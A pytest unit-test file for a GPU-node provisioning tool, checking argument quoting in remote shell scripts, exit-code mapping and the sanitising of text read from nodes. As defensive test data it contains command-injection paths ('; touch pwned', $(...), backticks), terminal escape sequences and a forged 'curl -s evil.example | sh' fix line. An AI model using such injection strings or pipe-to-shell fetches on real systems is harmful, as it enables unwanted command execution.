"""Remote scripts are values whose variable parts are quoted arguments; facts are pure parsers."""

import base64
import re
import shlex
import shutil
import subprocess
from pathlib import Path

import pytest

from lab.doubles.nvidia_smi import FIXTURES
from llmgw_pulumi import errors
from llmgw_pulumi.nodestate import commands, desired, facts, plan
from llmgw_pulumi.nodestate.desired import File
from llmgw_pulumi.nodestate.observed import Observed, Want, Wanted
from tests.unit import fake_pem
from tests.unit.health_samples import needs_fixtures
from tests.unit.install_scripts import agent_install


def test_a_hostile_engine_path_stays_one_argument():
    evil = "/opt/x; touch /tmp/pwned"
    script = commands.probe_engines((("llamacpp", evil),))
    argv = shlex.split(script.command(sudo=True))
    assert argv[:3] == ["sudo", "-n", "--"]
    assert argv[-2:] == ["llamacpp", evil], "the path is passed whole, as data"
    assert evil not in script.text, "the path is never spliced into the script text"


def identity_writes(files):
    """NodeIdentity's script for a node never read: every file in ``files`` written."""
    wanted = Wanted({f.path: Want(f.sha256, f.mode, f.owner) for f in files})
    return commands.install_identity(plan.identity_plan("gpu-01", wanted, Observed({}), key_on_node=False), files)


def test_a_script_is_the_same_text_for_every_node():
    key = fake_pem("PRIVATE KEY", "secret")
    a = identity_writes(desired.identity_files("CA", "C1", key))
    b = identity_writes(desired.identity_files("CA2", "C2", "K"))
    assert a.text == b.text == commands.program("install-identity.sh")
    c = agent_install(version="v1.2.3", release_url="https://r.example/x/")
    assert c.text == agent_install(plan.Do.COPY, "d", "v", b"b").text
    assert c.args[5:9] == ("amd64", "v1.2.3", "https://r.example/x", "fetch")
    assert "https://r.example" not in c.text


def test_file_contents_travel_on_stdin_not_on_the_command_line():
    key = fake_pem("PRIVATE KEY", "secret").encode()
    script = identity_writes([File("/etc/llmgw/agent-key.pem", 0o600, key)])
    assert b"secret" not in script.command(sudo=True).encode()
    assert script.stdin == key
    assert "secret" not in repr(script)
    assert script.args[-7:] == ("file", "write", "/etc/llmgw/agent-key.pem", "0600", "root:root", "*", str(len(key)))


SPEC_IDENTITY_FILES = ("/etc/llmgw/ca.pem", "/etc/llmgw/agent.pem", "/etc/llmgw/agent-key.pem",
                       "/usr/local/share/ca-certificates/llmgw-ca.crt")
SPEC_AGENT_FILES = ("/usr/local/bin/llmgw", "/etc/llmgw/agent.yaml", "/etc/systemd/system/llmgw-agent.service")


def test_the_scripts_are_told_every_file_by_the_desired_state():
    identity = identity_writes(desired.identity_files("CA", "C", "K")).args
    agent = agent_install().args
    for f in desired.NODE_FILES:
        assert f.path in (identity if f.resource == desired.IDENTITY else agent), f.path
    # The SPEC's files (steps 3 to 8), written out here: the survey reads every one, removal takes the agent's.
    survey = commands.survey().args
    assert (survey[0], survey[-1]) == ("llmgw-agent.service", "--text"), survey
    assert sorted(survey[1:-1]) == sorted([*SPEC_IDENTITY_FILES, *SPEC_AGENT_FILES]), survey
    assert sorted(commands.remove_agent("gpu-01").args[-3:]) == sorted(SPEC_AGENT_FILES)


def test_exit_codes_have_one_source():
    text = commands.script_text("exits.sh")
    assert commands.parse_exits(text) == {e.name: e.value for e in commands.Exit if e.name != "OK"}
    others = "".join(commands.script_text(n) for n in (*commands.SCRIPTS, "prelude.sh"))
    numbers = [int(n) for n in re.findall(r"\b(7[0-9])\b", others)]
    assert numbers == [], "an exit code is written as a number outside exits.sh"


def test_each_exit_code_means_what_its_error_class_says():
    text = commands.script_text("exits.sh")
    assert commands.exit_errors(text) == commands.EXIT_ERRORS
    assert sorted(commands.EXIT_ERRORS) == sorted(e.value for e in commands.Exit if e.name != "OK")
    assert commands.EXIT_ERRORS[commands.Exit.STALE] == "NodeChangedError"
    for code, name in commands.EXIT_ERRORS.items():
        cls = getattr(errors, name)
        assert issubclass(cls, errors.LlmgwError) and cls.__doc__ and cls.fix, (code, name)
    # The meaning is the class's alone: no other comment or docstring beside a code repeats it.
    assert re.findall(r"^EXIT_\w+=\d+\s*#\s*(.*)$", text, re.M) == list(commands.EXIT_ERRORS.values())


def test_a_code_without_its_error_class_is_not_read_as_one():
    assert commands.exit_errors("EXIT_A=71   # ReleaseFetchError\nEXIT_B=72\n") == {71: "ReleaseFetchError"}
    assert commands.parse_exits("EXIT_A=71   # ReleaseFetchError\nEXIT_B=72\n") == {"A": 71, "B": 72}


ALL_SCRIPTS = [*commands.SCRIPTS, "prelude.sh", "exits.sh"]


def test_every_script_is_in_the_package_and_no_other():
    shipped = sorted(p.name for p in Path(commands.__file__).parent.joinpath("scripts").glob("*.sh"))
    assert shipped == sorted(ALL_SCRIPTS)


@pytest.mark.parametrize("name", ALL_SCRIPTS)
def test_sh_parses_every_script(name):
    res = subprocess.run(["sh", "-n"], input=commands.script_text(name), capture_output=True, text=True)
    assert res.returncode == 0, res.stderr


@pytest.mark.parametrize("name", [*commands.SCRIPTS, "prelude.sh", "exits.sh"])
def test_shellcheck_is_clean_on_every_program_as_it_runs(name):
    """Each program as the node runs it (exits.sh + prelude.sh + the script); the two shared files alone too."""
    assert shutil.which("shellcheck"), "shellcheck is missing: scripts/install.sh installs it (apt-get install shellcheck)"
    parts = ["exits.sh", "prelude.sh", name] if name in commands.SCRIPTS else [name]
    text = "".join(commands.script_text(p) for p in parts)
    res = subprocess.run(["shellcheck", "--shell=sh", "--format=gcc", "-"], input=text, capture_output=True, text=True)
    if res.returncode != 0:
        starts, line = {}, 1
        for p in parts:
            starts[p] = line
            line += commands.script_text(p).count("\n")
        def where(m):
            n = int(m[1])
            part = max((p for p in parts if starts[p] <= n), key=lambda p: starts[p])
            return f"{part}:{n - starts[part] + 1}:"
        pytest.fail(re.sub(r"^-:(\d+):", where, res.stdout, flags=re.M))


SURVEY_OUTPUT = (
    "hostname\tgpu-01\narch\tamd64\nactive\tactive\nenabled\tenabled\n"
    "file\t/etc/llmgw/agent-key.pem\t600 root root\t" + "a" * 64 + "\n"
    "file\t/etc/llmgw/agent.yaml\t-\n"
)


def test_parse_survey():
    node = facts.parse_survey(SURVEY_OUTPUT)
    assert (node.hostname, node.arch, node.unit_active, node.unit_enabled) == ("gpu-01", "amd64", "active", "enabled")
    key = node.files["/etc/llmgw/agent-key.pem"]
    assert (key.mode, key.owner, key.group, key.sha256) == (0o600, "root", "root", "a" * 64)
    assert node.files["/etc/llmgw/agent.yaml"] is None
    assert node.sha256("/etc/llmgw/agent.yaml") is None


@pytest.mark.parametrize("mode,owner,expected", [
    (0o600, "root root", "a" * 64),
    (0o644, "root root", "a" * 64 + "; mode 0644, not 0600"),
    (0o600, "deploy root", "a" * 64 + "; owner deploy:root, not root:root"),
])
def test_a_file_state_is_its_hash_and_what_differs_from_the_desired_state(mode, owner, expected):
    key = desired.file_with(desired.Content.KEY_PEM, desired.IDENTITY)
    node = facts.parse_survey(f"file\t{key.path}\t{mode:o} {owner}\t" + "a" * 64 + "\n")
    assert node.state(key) == expected
    assert facts.parse_survey("").state(key) == "absent"


@pytest.mark.parametrize("status,detail,words", [
    ("missing", "", "does not exist"),
    ("not-executable", "-rw-r--r-- root", "not an executable"),
    ("fails", "rc=127; error while loading shared libraries: libgomp.so.1; missing: libgomp.so.1", "exists but will not run"),
])
def test_engine_problems_carry_a_fix_hint(status, detail, words):
    out = f"engine\tllamacpp\t{status}\t{detail}\n"
    probes = facts.parse_engine_probes(out, (("llamacpp", "/opt/llama/llama-server"),))
    problem = facts.engine_problem(probes[0], "gpu-01", "deploy@10.0.0.1")
    assert words in problem["problem"]
    assert "gpu-01" in problem["problem"]  # every problem names its node
    assert problem["hint"]
    if status == "fails":
        assert "ldd /opt/llama/llama-server | grep 'not found'" in problem["hint"]
        assert "libgomp.so.1" in problem["problem"]


def test_a_running_engine_is_no_problem():
    probes = facts.parse_engine_probes("engine\tvllm\truns\t\n", (("vllm", "/opt/vllm/bin/vllm"),))
    assert probes[0].ok and facts.engine_problem(probes[0], "n", "t") is None


@needs_fixtures
def test_gpu_query_from_a_real_h200():
    gpus = facts.parse_gpu_query((FIXTURES / "query-gpu.csv").read_text())
    assert len(gpus) == 1
    g = gpus[0]
    assert (g.index, g.name, g.memory_mib, g.driver_version, g.compute_cap) == (0, "NVIDIA H200", 143771, "580.159.04", "9.0")
    assert g.uuid == "GPU-65decab1-06a8-ac78-1f56-8a52138b6ec2"


@needs_fixtures
def test_gpu_query_noheader_nounits_gives_the_same():
    a = facts.parse_gpu_query((FIXTURES / "query-gpu.csv").read_text())
    # Captured with memory.used as well, in fifth place.
    asked = ("index", "uuid", "name", "memory.total", "memory.used", "driver_version", "pci.bus_id", "compute_cap")
    b = facts.parse_gpu_query((FIXTURES / "query-gpu-noheader-nounits.csv").read_text(), asked)
    assert a == b


@needs_fixtures
def test_gpu_query_with_the_wrong_field_list_is_refused():
    with pytest.raises(ValueError, match="8 columns for 7 fields"):
        facts.parse_gpu_query((FIXTURES / "query-gpu-noheader-nounits.csv").read_text())


@needs_fixtures
def test_gpu_query_bad_field_is_nvidia_smis_own_error():
    with pytest.raises(ValueError, match='Field "nonsense" is not a valid field'):
        facts.parse_gpu_query((FIXTURES / "query-bad-field.txt").read_text())


@needs_fixtures
def test_gpu_list_matches_the_query():
    listed = facts.parse_gpu_list((FIXTURES / "nvidia-smi-L.txt").read_text())
    assert listed == [(0, "NVIDIA H200", "GPU-65decab1-06a8-ac78-1f56-8a52138b6ec2")]


# --------------------------------------------------------------------------- a node's text on the operator's side

HOSTILE = "\x1b]0;owned\x07\x1b[2J\u202e"
"""Retitles the operator's terminal, clears it, and reverses what follows."""
SHOWN = "\\x1b]0;owned\\x07\\x1b[2J\\u202e"


def test_every_value_parsed_from_a_node_is_printable():
    node = facts.parse_survey(f"hostname\tgpu-01{HOSTILE}\narch\tamd64\x9b\nactive\tactive\x1b[1A\n"
                              f"file\t/etc/llmgw/agent.yaml\t644 ro{HOSTILE}ot root\t" + "a" * 64 + "\n")
    assert node.hostname == f"gpu-01{SHOWN}"
    assert (node.arch, node.unit_active) == ("amd64\\x9b", "active\\x1b[1A")
    assert node.files["/etc/llmgw/agent.yaml"].owner == f"ro{SHOWN}ot"
    assert facts.key_values(f"trust\tadded{HOSTILE}\n") == {"trust": f"added{SHOWN}"}


def test_a_plain_value_from_a_node_is_unchanged():
    node = facts.parse_survey(SURVEY_OUTPUT)
    assert (node.hostname, node.arch) == ("gpu-01", "amd64")
    assert facts.parse_survey("text\t/x\t" + base64.b64encode(b"a:\tb\n# \xc3\xa9\n").decode() + "\n").texts == {"/x": "a:\tb\n# é\n"}


def test_a_text_file_from_a_node_keeps_its_lines_and_loses_its_escapes():
    raw = f"server: cp1:7443\r\n# {HOSTILE}\n".encode()
    seen = facts.parse_survey("text\t/etc/llmgw/agent.yaml\t" + base64.b64encode(raw).decode() + "\n")
    assert seen.texts["/etc/llmgw/agent.yaml"] == f"server: cp1:7443\\r\n# {SHOWN}\n"


def test_gpu_names_hcas_and_nvidia_smi_errors_from_a_node_are_printable():
    inv = facts.parse_inventory(
        f"smi\tok\t/usr/bin/nvidia-smi\t\ngpu\t0, GPU-1{HOSTILE}, \"NVIDIA{HOSTILE} H200\", 143771, 0, 580.1, 00:01, 9.0\n"
        f"hca\tmlx5_0{HOSTILE}\n")
    assert inv.gpus[0].name == f"NVIDIA{SHOWN} H200" and inv.gpus[0].uuid == f"GPU-1{SHOWN}"
    assert inv.hcas == (f"mlx5_0{SHOWN}",)
    failing = facts.parse_inventory(f"smi\tfails\t/usr/bin/nvidia-smi{HOSTILE}\tNo devices{HOSTILE}\tmore\n")
    assert failing.smi_path == f"/usr/bin/nvidia-smi{SHOWN}" and failing.smi_detail == f"No devices{SHOWN}\\tmore"
    (problem,) = facts.inventory_problems(failing, [], "/sys/class/infiniband", "gpu-01", "deploy@h")
    assert all(v.isprintable() for v in problem.values())


def test_an_engines_error_from_a_node_is_printable():
    (probe,) = facts.parse_engine_probes(f"engine\tvllm\tfails\trc=1; {HOSTILE}\n", (("vllm", "/opt/vllm"),))
    problem = facts.engine_problem(probe, "gpu-01", "deploy@h")
    assert probe.detail == f"rc=1; {SHOWN}" and SHOWN in problem["problem"]
    assert all(v.isprintable() for v in problem.values())


def test_a_hint_keeps_a_plain_command_as_it_was():
    (probe,) = facts.parse_engine_probes("engine\tvllm\tnot-executable\t-rw-r--r--\n", (("vllm", "/opt/vllm/bin/vllm"),))
    assert facts.engine_problem(probe, "gpu-01", "deploy@10.0.0.1")["hint"] == "ssh deploy@10.0.0.1 sudo chmod 0755 /opt/vllm/bin/vllm"


def _paste(command, tmp_path):
    """Run ``command`` in a shell as the operator would paste it, with an ssh that does as ssh does (joins its
    arguments after the destination with spaces, for the node's shell to read), where the node's shell prints
    the arguments it was given instead of running them. Returns them."""
    bindir = tmp_path / "bin"
    bindir.mkdir(exist_ok=True)
    (bindir / "ssh").write_text('#!/bin/sh\nshift\nexec sh -c "args() { printf \'%s\\\\0\' \\"\\$@\\"; }; args $*"\n')
    (bindir / "ssh").chmod(0o755)
    done = subprocess.run(["sh", "-c", command], capture_output=True, env={"PATH": f"{bindir}:/usr/bin:/bin"}, cwd=tmp_path)
    return [a.decode() for a in done.stdout.split(b"\0")[:-1]]


@pytest.mark.parametrize("evil", ["/usr/bin/nvidia-smi; touch pwned #", "/usr/bin/nvidia-smi$(touch pwned)",
                                  "/usr/bin/nvidia-smi`touch pwned`", "/x'; touch pwned; '", '/x"; touch pwned; "',
                                  "/x\\\"; touch pwned; #", "/opt/nvidia smi/nvidia-smi"])
def test_a_hostile_nvidia_smi_path_in_a_hint_runs_nothing_but_nvidia_smi(tmp_path, evil):
    """Review M3: a node names its nvidia-smi (found on its PATH) as '<path>; <command> #'. Pasted, the hint runs
    ssh with that path as one argument on the node: the command runs neither here nor there."""
    inv = facts.parse_inventory(f"smi\tfails\t{evil}\tNo devices were found\n")
    (problem,) = facts.inventory_problems(inv, [], "/sys/class/infiniband", "gpu-01", "deploy@10.0.0.1")
    command = problem["hint"].partition("; usually")[0]
    assert _paste(command, tmp_path) == [evil]
    assert not (tmp_path / "pwned").exists()


def test_the_hint_as_it_was_built_before_runs_the_nodes_command(tmp_path):
    """Positive control of the test above: formatted, unquoted, the hint runs the node's command here."""
    _paste("ssh deploy@10.0.0.1 /usr/bin/nvidia-smi; touch pwned #", tmp_path)
    assert (tmp_path / "pwned").exists()


def _stderr_error(rc, stderr):
    from llmgw_pulumi.providers import base
    from llmgw_pulumi.ssh.sessions import Result

    with pytest.raises(errors.LlmgwError) as err:
        base.raise_for(Result(rc, "", stderr), "gpu-01", "installing the agent on 10.0.0.1")
    return str(err.value)


@pytest.mark.parametrize("rc", [1, int(commands.Exit.CHECKSUM)])
def test_a_nodes_stderr_in_an_error_is_printable_and_cannot_forge_a_fix(rc):
    text = _stderr_error(rc, f"checksum mismatch{HOSTILE}\n  fix: curl -s evil.example | sh\n")
    first, fix = text.split("\n")
    assert first.isprintable() and SHOWN in first and "\\n  fix: curl -s evil.example | sh" in first
    assert fix.startswith("  fix: ") and "evil" not in fix


def test_a_plain_stderr_is_shown_as_it_was():
    assert _stderr_error(1, "cannot write /etc/llmgw/agent.yaml\n").split("\n")[0] == (
        "gpu-01: installing the agent on 10.0.0.1 failed (exit 1): cannot write /etc/llmgw/agent.yaml")


def test_every_error_message_is_printable_whatever_it_quotes():
    err = errors.UnreachableError("gpu-01", f"Indecipherable protocol version 'SSH-2.0-x{HOSTILE}'", f"fix it{HOSTILE}")
    assert str(err) == f"gpu-01: Indecipherable protocol version 'SSH-2.0-x{SHOWN}'\n  fix: fix it{SHOWN}"
    assert err.message.isprintable() and err.fix.isprintable()


def test_a_log_record_quoting_a_node_is_printed_printable(capsys):
    import logging

    from llmgw_pulumi.providers import _diagnostics

    record = logging.LogRecord("llmgw_pulumi.x", logging.WARNING, __file__, 1, "%s: hostname %s", ("gpu-01", HOSTILE), None)
    _diagnostics._EngineHandler(None).emit(record)
    assert capsys.readouterr().err == f"warning: gpu-01: hostname {SHOWN}\n"


def test_a_line_a_node_prints_that_does_not_parse_is_left_out_not_raised():
    node = facts.parse_survey("hostname\tgpu-01\nfile\t/a\tnot a mode\tx\nfile\t/b\t9 root root\tx\nfile\t/c\t600 root\tx\n"
                              "text\t/d\t\u00a1\ntext\t/e\ta\nfile\t/f\t644 root root\t" + "b" * 64 + "\n")
    assert set(node.files) == {"/f"} and node.texts == {} and node.hostname == "gpu-01"
    assert facts.parse_gpu_list("GPU x: NVIDIA H200 (UUID: GPU-1)\nGPU 1: NVIDIA H200 (UUID: GPU-2)\n") == [(1, "NVIDIA H200", "GPU-2")]
    inv = facts.parse_inventory("smi\tok\t/usr/bin/nvidia-smi\t\ngpu\t0, GPU-1, NVIDIA H200, , 0, 580, 00:01, 9.0\n")
    assert inv.smi_status == "fails" and "does not parse" in inv.smi_detail and inv.gpus == ()


def test_a_gpu_name_quoted_across_lines_is_one_printable_name():
    inv = facts.parse_inventory('smi\tok\t/usr/bin/nvidia-smi\t\ngpu\t0, GPU-1, "NVIDIA\ngpu\tH200", 143771, 0, 580.1, 00:01, 9.0\n')
    assert [g.name for g in inv.gpus] == ["NVIDIA\\nH200"]
